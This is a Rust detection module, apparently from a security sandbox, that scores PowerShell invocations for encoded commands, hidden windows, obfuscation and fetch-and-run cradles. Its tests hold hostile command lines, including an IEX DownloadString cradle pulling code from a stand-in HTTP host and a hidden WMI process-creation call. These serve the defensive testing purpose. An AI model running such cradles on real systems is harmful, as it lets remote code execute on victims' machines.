//! Stage class `payload`: what PowerShell was told to do, once it is plain that a
//! script was let in or stands behind it.

use sandtrap_sdk::windows::{Invocation, Trait, Traits, command_line::obfuscation};

use crate::found::Found;

const CODE: &[Trait] = &[
    Trait::Download,
    Trait::InvokeExpression,
    Trait::Reflection,
    Trait::Socket,
    Trait::Decompression,
    Trait::Tamper,
    Trait::WmiProcess,
    Trait::Credentials,
];

/// How much of a decoded command a finding carries, in bytes.
pub const MAX_DETAIL: usize = 2048;

/// The stages of a PowerShell command line.
pub fn stages(invocation: &Invocation, approved_hosts: &[String]) -> Vec<Found> {
    let mut found = Vec::new();
    let decoded = invocation
        .encoded_command
        .as_ref()
        .and_then(|payload| payload.text.as_deref());
    if decoded.is_some() {
        let text = "gets its command encoded";
        found.push(Found::new("payload.encoded", 20, text));
    }
    if invocation.window_hidden {
        found.push(Found::new("payload.hidden", 10, "hides its window"));
    }
    let Some(script) = invocation.script() else {
        return found;
    };
    found.extend(code(script, approved_hosts));
    if obfuscation(script).is_dense() {
        let text = "runs PowerShell spelt to be hard to read";
        found.push(Found::new("payload.obfuscated", 15, text));
    }
    found
}

/// The stages of script text.
pub fn code(script: &str, approved_hosts: &[String]) -> Option<Found> {
    let traits = Traits::of_layers(script);
    if !traits.has_any(CODE) {
        return None;
    }
    let lower = script.to_ascii_lowercase();
    let runs_text_only = CODE
        .iter()
        .all(|code| *code == Trait::InvokeExpression || !traits.has(*code));
    if runs_text_only && lower.contains("$input") {
        // So do the wrappers of remote configuration tools; what they are sent
        // shows in its effects.
        let text = "runs what comes over its standard input";
        return Some(Found::new("payload.code", 5, text));
    }
    let is_approved = fetches_from(&lower, approved_hosts);
    let names: Vec<&str> = traits.names().take(4).collect();
    let names = names.join(", ");
    // Fetching a program and starting it is how software is installed, but not
    // over a line that anyone can change on the way.
    let starts = [
        "start-process",
        "saps ",
        "invoke-item",
        "shellexecute",
        "process]::start",
    ]
    .iter()
    .any(|call| lower.contains(call));
    let is_cradle = traits.has(Trait::Download)
        && (traits.has(Trait::InvokeExpression) || starts && lower.contains("http://"));
    match (is_cradle, is_approved) {
        (true, true) => None,
        (true, false) => Some(Found::new(
            "payload.code",
            35,
            format!("fetches code and runs it ({names})"),
        )),
        (false, _) => Some(Found::new(
            "payload.code",
            20,
            format!("runs suspicious PowerShell ({names})"),
        )),
    }
}

/// Whether a text in lower case fetches from one of the hosts, and nothing over a line
/// that anyone can change on the way.
pub fn fetches_from(lower: &str, approved_hosts: &[String]) -> bool {
    lower.contains("https://")
        && !lower.contains("http://")
        && approved_hosts
            .iter()
            .any(|host| lower.contains(&format!("https://{}/", host.to_ascii_lowercase())))
}

/// What a finding shows of a command.
pub fn excerpt(invocation: &Invocation) -> Option<&str> {
    let script = invocation.script()?;
    script.get(..script.floor_char_boundary(MAX_DETAIL))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn stages_of(line: &str) -> Vec<(&'static str, i32)> {
        let hosts = ["community.chocolatey.org".to_owned()];
        stages(&Invocation::parse(line), &hosts)
            .into_iter()
            .map(|found| (found.stage, found.score))
            .collect()
    }

    #[test]
    fn a_cradle_weighs_more_than_code_and_an_installer_nothing() {
        for (line, expected) in [
            (
                "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')",
                vec![("payload.code", 35)],
            ),
            (
                "powershell -ep bypass -c iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
                vec![],
            ),
            (
                "powershell -w hidden -c Invoke-WmiMethod -Class win32_process -Name create",
                vec![("payload.hidden", 10), ("payload.code", 20)],
            ),
            (
                "powershell -c $in = $input | Out-String; &([ScriptBlock]::Create($in))",
                vec![("payload.code", 5)],
            ),
            ("powershell -c Get-Date", vec![]),
            (r"powershell -File C:\x.ps1", vec![]),
        ] {
            assert_eq!(stages_of(line), expected, "{line}");
        }
    }
}
